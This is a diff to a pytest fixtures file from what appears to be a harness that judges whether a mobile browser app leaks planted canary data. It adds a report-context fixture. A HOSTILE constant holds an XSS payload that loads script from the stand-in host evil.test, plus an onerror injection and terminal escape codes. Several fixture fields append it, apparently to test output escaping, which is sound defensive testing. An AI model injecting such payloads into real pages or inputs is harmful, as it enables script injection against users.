@@ -5,9 +5,11 @@ from __future__ import annotations
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
+from harness.ledger import Ledger
 from harness.model.claim import Grade, Kind
 from harness.model.judgement import (
     Alternative,
@@ -19,8 +21,14 @@ from harness.model.judgement import (
     Outcome,
     Reason,
     Sensitivity,
+    Value,
     Witness,
 )
+from harness.model.recording import RunFacts
+from harness.report.background import NOTHING
+from harness.report.context import Context, JudgedRun
+from harness.report.verdict import verdict
+from tests.judge.honest import tables
 
 GOLDEN = Path(__file__).parent / "golden"
 HOSTILE = "</script><script src=//evil.test/x.js></script><img src=x onerror=1>\x1b[2J\u202e[bold]\udc80\r\n"
@@ -45,10 +53,14 @@ def golden() -> Callable[[str, str], None]:
 def violated() -> Judgement:
     witness = Witness(
         exchange="000123",
-        path=("body", "form:data_list", "base64", "gzip", "json:[0].properties.url"),
-        form="plain",
-        planted="canary query of visit 2",
-        value="https://c1.claims.test/a?q=9f2c" + HOSTILE,
+        values=(
+            Value(
+                ("body", "form:data_list", "base64", "gzip", "json:[0].properties.url"),
+                "plain",
+                "canary query of visit 2",
+                "https://c1.claims.test/a?q=9f2c" + HOSTILE,
+            ),
+        ),
         app="com.mi.globalbrowser",
         app_by="socket",
         destination="sa.api.intl.miui.com:443",
@@ -137,3 +149,62 @@ def not_applicable(holding: Judgement) -> Judgement:
         reasons=(Reason("app-missing", "pm list packages: no com.mi.globalbrowser.mini"),),
         bound95=None,
     )
+
+
+@pytest.fixture
+def context(
+    tmp_path: Path,
+    violated: Judgement,
+    holding: Judgement,
+    unproven: Judgement,
+    not_applicable: Judgement,
+) -> Context:
+    """One judged run with a verdict of each outcome, and a handset that was not judged."""
+    judgements = (violated, holding, unproven, not_applicable)
+    facts = RunFacts(
+        id="20261122T143005Z-april-2020-1f3a9c",
+        handset="april-2020",
+        handset_kind="virtual",
+        grade="screening",
+        date="2026-11-22",
+        firmware="xiaomi/x:9/PKQ1" + HOSTILE,
+        packages=(),
+        network_mode="proxy",
+        canary_domain="claims.test",
+        proxy_address=("127.0.0.1", 1),
+        interventions=(),
+        settings={},
+    )
+    run = JudgedRun(
+        handset="april-2020",
+        recording=SimpleNamespace(path=tmp_path / facts.id),
+        facts=facts,
+        derived=tmp_path / f"{facts.id}.derived",
+        sealed=True,
+        judgements=judgements,
+        verdicts={item.claim: verdict([item], ()) for item in judgements},
+        background=NOTHING,
+    )
+    return Context(
+        invocation="20261122T143000Z-7f3a9c",
+        started="2026-11-22T14:30:00Z",
+        ended="2026-11-22T14:52:10Z",
+        exit_code=1,
+        reports=tmp_path,
+        project=tmp_path,
+        ledger=_ledger(judgements),
+        runs=(run,),
+        errors={"pixel": "no phone answers" + HOSTILE},
+    )
+
+
+def _ledger(judgements: tuple[Judgement, ...]) -> Ledger:
+    """The claims of these judgements, and one that nobody tests; their words are not the ledger's."""
+    ledger = tables().ledger
+    claims = [
+        replace(ledger.claim(item.claim), title=f"The title of {item.claim}", untested=None)
+        for item in judgements
+    ]
+    other = next(claim for claim in ledger.claims if not claim.propositions)
+    other = replace(other, id="CON-99", topic="consent", title="A title", untested="Not yet: no driver.")
+    return replace(ledger, claims=(*claims, other))
